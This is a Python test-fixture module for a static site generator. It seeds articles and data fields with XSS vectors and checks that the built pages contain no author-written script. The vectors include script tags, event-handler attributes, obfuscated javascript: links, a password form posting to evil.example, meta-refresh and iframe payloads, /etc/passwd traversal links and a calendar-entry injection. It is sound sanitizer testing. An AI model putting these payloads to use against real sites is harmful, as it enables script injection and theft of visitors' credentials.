"""A fixture site full of hostile content, built once, and what "nothing runs" means.

The minimal fixture (tests/fixtures/minimal) with one article per XSS vector
(docs/zh/news/2025/v-<id>.md, the vector on line 7) and every text field of the data
files that reaches a page, a feed or a calendar carrying a vector of its own. It is
built once, without --strict, so that the output can be inspected and the warnings
read; a strict build of the same content fails (tests/test_hostile_build.py).

Every vector carries the marker HUBXSS, so a script that survived anywhere is found.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

from bs4 import BeautifulSoup, Tag
from sitebuild import MINIMAL, BuiltSite, build, copy_project

MARKER = "HUBXSS"
VECTOR_LINE = 7
NO_WRAP = {"COLUMNS": "0"}


@dataclass(frozen=True)
class Vector:
    id: str
    markdown: str  # starts on line VECTOR_LINE of the article
    removed: tuple[str, ...]  # what each warning says was removed, in order of the messages
    gone: tuple[str, ...] = ()  # CSS selectors that must match nothing in the built article
    text: str | None = None  # text a reader must see, exactly as written

    @property
    def path(self) -> str:
        return f"docs/zh/news/2025/v-{self.id}.md"

    @property
    def url(self) -> str:
        return f"news/2025/v-{self.id}/"


SCRIPT = "<script> removed; scripts are not allowed in content"
JS = "only http:, https:, mailto:, tel: and relative links are allowed"
ON = "event handler attributes run scripts and are not allowed"
FRAME = "embedded pages and plugins are not allowed; link to the page or video instead"
PAGE_LEVEL = "page-level tags are not allowed in content"
FORM = "forms are not allowed in content; link to the form instead"
SVG = "inline SVG and MathML are not allowed; use an image file"

VECTORS = [
    Vector("script-block", f'<script>alert("{MARKER}")</script>', (SCRIPT,), ("script",)),
    Vector("script-inline", f'Text <script>alert("{MARKER}")</script> more text.', (SCRIPT,), ("script",)),
    Vector("img-onerror", f"Text <img src=\"pic.png\" onerror=\"alert('{MARKER}')\"> text",
           (f"the attribute onerror removed from <img>; {ON}",), ("img[onerror]",)),
    Vector("link-javascript", f"[click](javascript:alert({MARKER}))",
           (f"the address 'javascript:alert({MARKER})' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-mixed-case", f"[click](JaVaScRiPt:alert({MARKER}))",
           (f"the address 'JaVaScRiPt:alert({MARKER})' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-entities", f"<a href=\"&#106;avascript:alert('{MARKER}')\">click</a>",
           (f"the address 'javascript:alert('{MARKER}')' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-tab", f"<a href=\"java&#x09;script:alert('{MARKER}')\">click</a>",
           (f"the address 'java script:alert('{MARKER}')' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-leading-space", f"<a href=\" javascript:alert('{MARKER}')\">click</a>",
           (f"the address 'javascript:alert('{MARKER}')' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-vbscript", f"<a href=\"vbscript:msgbox('{MARKER}')\">click</a>",
           (f"the address 'vbscript:msgbox('{MARKER}')' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-data", "[click](data:text/html;base64,SFVCWFNT)",
           (f"the address 'data:text/html;base64,SFVCWFNT' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("link-file", "[passwd](file:///etc/passwd)",
           (f"the address 'file:///etc/passwd' removed from <a href>; {JS}",), ("a[href]",)),
    Vector("image-javascript", f"![x](javascript:alert({MARKER}))",
           (f"the address 'javascript:alert({MARKER})' removed from <img src>; {JS}",), ("img[src]",)),
    Vector("image-third-party", f"![x](https://tracker.example/{MARKER}.gif)",
           (f"the image address 'https://tracker.example/{MARKER}.gif' removed from <img>; images are served from "
            "the site itself: put the picture in docs/assets/images/ and show it in the text by its path from the page "
            "(![what it shows](../../../assets/images/name.jpg) in an article) or name it in the front matter "
            "(image:)",),
           ("img[src]",)),
    Vector("iframe", f'<iframe src="https://evil.example/{MARKER}"></iframe>', (f"<iframe> removed; {FRAME}",),
           ("iframe",)),
    Vector("object-embed", f'<object data="https://evil.example/{MARKER}.swf"></object>'
           f'<embed src="https://evil.example/{MARKER}.swf">',
           (f"<embed> removed; {FRAME}", f"<object> removed; {FRAME}"), ("object", "embed")),
    Vector("base", f'<base href="https://evil.example/{MARKER}/">', (f"<base> removed; {PAGE_LEVEL}",), ("base",)),
    Vector("meta-refresh", f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
           (f"<meta> removed; {PAGE_LEVEL}",), ("meta",)),
    Vector("link-stylesheet", f'<link rel="stylesheet" href="https://evil.example/{MARKER}.css">',
           (f"<link> removed; {PAGE_LEVEL}",), ("link",)),
    Vector("style-element", f"<style>body {{ display: none }} /* {MARKER} */</style>",
           ("<style> removed; style sheets are not allowed in content; the site's own styles apply",), ("style",)),
    Vector("style-cover", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">'
           f"{MARKER} covers the page</div>",
           ("the attribute style removed from <div>; styles are not allowed in content "
            "(only text-align in table cells)",), ("[style]",)),
    Vector("form", f'<form action="https://evil.example/{MARKER}"><input name="password" type="password"></form>',
           (f"<form> removed; {FORM}", f"<input> removed; {FORM}"), ("form", "input")),
    Vector("svg-onload", f"<svg onload=\"alert('{MARKER}')\"><circle r=\"5\"/></svg>", (f"<svg> removed; {SVG}",),
           ("svg", "circle")),
    Vector("svg-script", f"<svg><script>alert('{MARKER}')</script></svg>", (f"<svg> removed; {SVG}",),
           ("svg", "script")),
    Vector("math", f"<math href=\"javascript:alert('{MARKER}')\"><mtext>x</mtext></math>",
           (f"<math> removed; {SVG}",), ("math",)),
    Vector("noscript-mxss", f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARKER}')>\"></noscript>",
           # The title ends the noscript for an HTML5 parser: the <img> becomes real, without its onerror.
           ("<noscript> removed; scripts are not allowed in content",
            f"the attribute onerror removed from <img>; {ON}"),
           ("noscript", "img[onerror]")),
    Vector("template", f"<template><img src=x onerror=\"alert('{MARKER}')\"></template>",
           ("<template> removed; scripts are not allowed in content",), ("template", "img")),
    Vector("heading-attr-list", f"## Heading {{: onclick=\"alert('{MARKER}')\" }}",
           (f"the attribute onclick removed from <h2>; {ON}",), ("h2[onclick]",)),
    Vector("link-attr-list", f"[x](https://example.org/){{: onmouseover=\"alert('{MARKER}')\" }}",
           (f"the attribute onmouseover removed from <a>; {ON}",), ("a[onmouseover]",)),
    Vector("md-in-html", f"<div markdown=\"1\" onclick=\"alert('{MARKER}')\">**bold**</div>",
           (f"the attribute onclick removed from <div>; {ON}",), ("div[onclick]",)),
    Vector("details-ontoggle", f"<details open ontoggle=\"alert('{MARKER}')\"><summary>s</summary>x</details>",
           (f"the attribute ontoggle removed from <details>; {ON}",), ("details[ontoggle]",)),
    Vector("heading-raw-html", f"## Before <img src=\"pic.png\" onerror=\"alert('{MARKER}')\"> after",
           (f"the attribute onerror removed from <img>; {ON}",), ("img[onerror]",)),
    Vector("mermaid", f"<pre class=\"mermaid\">graph TD; A--&gt;B; %% {MARKER}</pre>",
           ("class 'mermaid' removed from <pre>; content may use the hub-* classes, admonition types and md-button "
            "only",), (".mermaid",)),
    Vector("theme-id", f'<div id="__config">{{"base": "https://evil.example/{MARKER}"}}</div>',
           ("id '__config' removed from <div>; ids starting with __ belong to the theme",), ("article #__config",)),
    Vector("pagefind-meta", f'<p data-pagefind-meta="url:https://evil.example/{MARKER}">x</p>',
           ("the attribute data-pagefind-meta removed from <p>; only data-hub-* attributes are allowed (others "
            "steer the theme or the search index)",), ("[data-pagefind-meta]",)),
    Vector("target-opener", f'<a href="https://example.org/{MARKER}" target="_blank" rel="opener">x</a>',
           ("rel 'opener' removed from <a>; use one of alternate, author, bookmark, external, help, license, me, "
            "next, nofollow, noopener, noreferrer, prev, search, sponsored, tag, ugc",
            "the attribute target removed from <a>; the attribute target is not allowed on <a>"),
           ("[target]", "[rel~=opener]")),
    # Harmless as written: nothing is removed, and the text reads as written.
    Vector("toc-id", f"## Heading {{: id='{MARKER}\" onmouseover=\"alert(1)' }}", ()),
    Vector("admonition-title", f"!!! note \"<img src=x onerror=alert('{MARKER}')>\"\n    Body.", (),
           text=f"<img src=x onerror=alert('{MARKER}')>"),
    Vector("escaped-text", f"Write &lt;script&gt;alert('{MARKER}')&lt;/script&gt; and `<b onclick=\"{MARKER}\">`.",
           (), text=f"Write <script>alert('{MARKER}')</script> and <b onclick=\"{MARKER}\">."),
]


@dataclass(frozen=True)
class LinkOut:
    """A Markdown link that leaves docs/: MkDocs reports it (mkdocs.yml `validation`)."""

    id: str
    markdown: str
    warning: str  # what MkDocs says, after "Doc file 'zh/news/2025/l-<id>.md' contains "

    @property
    def path(self) -> str:
        return f"docs/zh/news/2025/l-{self.id}.md"

    @property
    def url(self) -> str:
        return f"news/2025/l-{self.id}/"


LINKS_OUT = [
    LinkOut("parent-folders", "[passwd](../../../../../../etc/passwd)",
            "an unrecognized relative link '../../../../../../etc/passwd', it was left as is."),
    LinkOut("image-parent-folders", "![hosts](../../../../../../etc/hosts)",
            "an unrecognized relative link '../../../../../../etc/hosts', it was left as is."),
    LinkOut("absolute-path", "[passwd](/etc/passwd)", "an absolute link '/etc/passwd', it was left as is."),
    LinkOut("windows-separators", "[policy](..\\..\\policies\\test-policy.md)",
            # Markdown reads `\\.` as an escaped dot: what remains points nowhere.
            "a link '....\\policies\\test-policy.md', but the target "
            "'zh/news/2025/....\\policies\\test-policy.md' is not found among documentation files."),
]

# Front matter of one article and of a hand-written page: escaped where they land.
TITLE = f"<script>alert('{MARKER}-title')</script> & \"R&D\" <img src=x onerror=alert('{MARKER}-title')>"
SUMMARY = f"Summary </p><script>alert('{MARKER}-summary')</script> 'quoted' & more"
PAGE_TITLE = f"About <img src=x onerror=alert('{MARKER}-page')>"

# Data fields: one vector per field, each with its own marker.
def data_vector(name: str) -> str:
    return f"{name} <script>alert('{MARKER}-{name}')</script><img src=x onerror=alert('{MARKER}-{name}')> & \"q\""


CITY_NAME = data_vector("city")
CITY_NATIVE = data_vector("native")
CHENGDU_SIDE = data_vector("side")
TOPIC = data_vector("topic")
SECTOR = data_vector("sector")
OPPORTUNITY_TITLE = data_vector("opportunity")
OPPORTUNITY_SUMMARY = data_vector("opportunity-summary")
ISSUER = data_vector("issuer")
SOURCE = data_vector("source")
DETAILS = data_vector("details")
EVENT_TITLE = data_vector("event")
EVENT_SUMMARY = data_vector("event-summary")
PLACE = data_vector("place")
ORGANISER = data_vector("organiser")
# A value that tries to end the calendar entry early and start one of its own (the event's
# title in zh, the language of the calendars).
ICS_INJECTION = f"Event\nEND:VEVENT\nBEGIN:VEVENT\nUID:{MARKER}\nSUMMARY:{MARKER}-ics"
QUOTE_URL = f"https://example.org/x'onmouseover='alert(1)'{MARKER}"


def _q(text: str) -> str:
    """A YAML double-quoted scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def _localized(text: str, **other: str) -> str:
    return "{" + ", ".join(f"{lang}: {_q(other.get(lang, text))}" for lang in ("zh", "en", "fr", "ja")) + "}"


def vector_page(vector: Vector) -> str:
    """The article that carries `vector`, on line VECTOR_LINE."""
    return f"---\ntitle: 向量 {vector.id}\nsummary: 测试。\ndate: 2025-04-16\n---\n\n{vector.markdown}\n"


def write_vectors(project: Path) -> None:
    news = project / "docs" / "zh" / "news" / "2025"
    for vector in VECTORS:
        (news / f"v-{vector.id}.md").write_text(vector_page(vector), encoding="utf-8")
    for link in LINKS_OUT:
        (news / f"l-{link.id}.md").write_text(
            f"---\ntitle: 链接 {link.id}\nsummary: 测试。\ndate: 2025-04-16\n---\n\n{link.markdown}\n",
            encoding="utf-8",
        )
    article = news / "first-article.md"
    text = article.read_text(encoding="utf-8")
    text = text.replace("title: 第一篇文章", f"title: {_q(TITLE)}")
    text = text.replace("summary: 测试摘要。", f"summary: {_q(SUMMARY)}")
    article.write_text(text, encoding="utf-8")
    about = project / "docs" / "zh" / "about" / "index.md"
    about.write_text(f"---\ntitle: {_q(PAGE_TITLE)}\n---\n\n关于本站。\n", encoding="utf-8")

    data = project / "data"
    (data / "topics.yml").write_text(f"sister-cities: {_localized(TOPIC)}\n", encoding="utf-8")
    sectors = (data / "sectors.yml").read_text(encoding="utf-8")
    sector_id = sectors.split(":", 1)[0].strip()
    (data / "sectors.yml").write_text(f"{sector_id}: {_localized(SECTOR)}\n", encoding="utf-8")
    city = data / "cities" / "montpellier.yml"
    city.write_text(
        city.read_text(encoding="utf-8")
        .replace("name: {zh: 蒙彼利埃, en: Montpellier, fr: Montpellier, ja: モンペリエ}",
                 f"name: {_localized(CITY_NAME)}")
        .replace("native_name: Montpellier", f"native_name: {_q(CITY_NATIVE)}")
        .replace("chengdu_side: {zh: 成都市, en: Chengdu}", f"chengdu_side: {_localized(CHENGDU_SIDE)}"),
        encoding="utf-8",
    )
    grant = data / "opportunities" / "test-grant.yml"
    grant.write_text(
        grant.read_text(encoding="utf-8")
        .replace("title: {zh: 测试资助, en: Test grant}", f"title: {_localized(OPPORTUNITY_TITLE)}")
        .replace("summary: {zh: 测试资助摘要。, en: A test grant.}", f"summary: {_localized(OPPORTUNITY_SUMMARY)}")
        .replace("issuer: {zh: 成都市, en: Chengdu}", f"issuer: {_localized(ISSUER)}")
        .replace("source: {zh: 测试来源, en: Test source}", f"source: {_localized(SOURCE)}\n"
                 f"details: {_localized(DETAILS)}\nsource_url: {_q(QUOTE_URL)}"),
        encoding="utf-8",
    )
    event = data / "events" / "test-event.yml"
    event.write_text(
        event.read_text(encoding="utf-8")
        .replace("title: {zh: 测试活动, en: Test event}",
                 f"title: {_localized(EVENT_TITLE, zh=ICS_INJECTION)}")
        .replace("summary: {zh: 测试活动摘要。, en: A test event.}",
                 f"summary: {_localized(EVENT_SUMMARY)}")
        .replace("place: {zh: 蒙彼利埃, en: Montpellier}", f"place: {_localized(PLACE)}\n"
                 f"organiser: {_localized(ORGANISER)}"),
        encoding="utf-8",
    )


@cache
def vector_site(base: Path) -> BuiltSite:
    project = copy_project(base / "project", content_from=MINIMAL)
    write_vectors(project)
    return build(project, base / "site", strict=False, **NO_WRAP)


# -- what "no script reaches a reader" means in a built page ------------------------------

# Scripts that Material and the hub's templates put on pages (hub-subscribe.js: where there is an address to copy).
THEME_SCRIPT_SOURCES = re.compile(
    r"(?:^|/)assets/(?:javascripts/bundle\.[0-9a-f]+\.min\.js|hub-search\.js|hub-subscribe\.js)$"
)
THEME_INLINE_SCRIPTS = ("__md_scope=", "var target=document.getElementById(location.hash", "(function(){var b=",
                        # overrides/404.html: the address into "Report the broken address"
                        '(function(){var a=document.getElementById("hub-report-missing")')
DATA_SCRIPT_TYPES = ("application/json", "application/ld+json")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "background", "cite")


@dataclass
class Findings:
    problems: list[str] = field(default_factory=list)

    def add(self, where: str, what: str, element: Tag) -> None:
        self.problems.append(f"{where}: {what}: {str(element)[:160]}")


def executable_content(html: str, where: str = "") -> list[str]:
    """Everything in a page that could run code a content author wrote."""
    found = Findings()
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.add(where, f"event handler {name}", element)
            if name.lower() in URL_ATTRIBUTES and _script_url(text):
                found.add(where, f"script URL in {name}", element)
        if element.name == "script":
            if element.get("type") in DATA_SCRIPT_TYPES:
                if not _json(element.get_text()):
                    found.add(where, "data script that is not JSON", element)
            elif MARKER in element.get_text() or MARKER in str(element.get("src", "")):
                found.add(where, "script with the marker", element)
            elif not _theme_script(element):
                found.add(where, "script that is not the theme's", element)
        if element.name in ("iframe", "object", "embed", "base", "frame", "frameset", "applet"):
            found.add(where, f"<{element.name}>", element)
        if element.name == "meta" and element.get("http-equiv"):
            found.add(where, "<meta http-equiv>", element)
    return found.problems


def _script_url(value: str) -> bool:
    compact = re.sub(r"[\x00-\x20]", "", value).lower()
    return compact.startswith(("javascript:", "vbscript:", "data:text/html", "data:image/svg"))


def _theme_script(element: Tag) -> bool:
    if element.get("src"):
        return THEME_SCRIPT_SOURCES.search(str(element["src"])) is not None
    return element.get_text().lstrip().startswith(THEME_INLINE_SCRIPTS)


def _json(text: str) -> bool:
    """Data in a script element: JSON that no text could have closed early."""
    try:
        json.loads(text)
    except ValueError:
        return False
    return "<" not in text


def article(site: BuiltSite, url: str) -> Tag:
    """The page's own content: what Markdown and the hub's templates made of it."""
    content = site.soup(url).select_one("article.md-content__inner")
    assert content is not None, f"{url} has no article"
    return content


def body(site: BuiltSite, url: str) -> BeautifulSoup:
    """What an article's Markdown made: everything after the byline the hub adds, up to what
    the hub adds after the text (what the article is filed under, related articles, the QR
    code of the page's address: hub.pages.sections.article_frame)."""
    byline = article(site, url).select_one(".hub-byline")
    assert byline is not None, f"{url} has no byline"
    after = byline.find_next_siblings()
    while after and {"hub-filed", "hub-related", "hub-share"} & set(after[-1].get("class", [])):
        after = after[:-1]
    return BeautifulSoup("".join(str(element) for element in after), "html.parser")
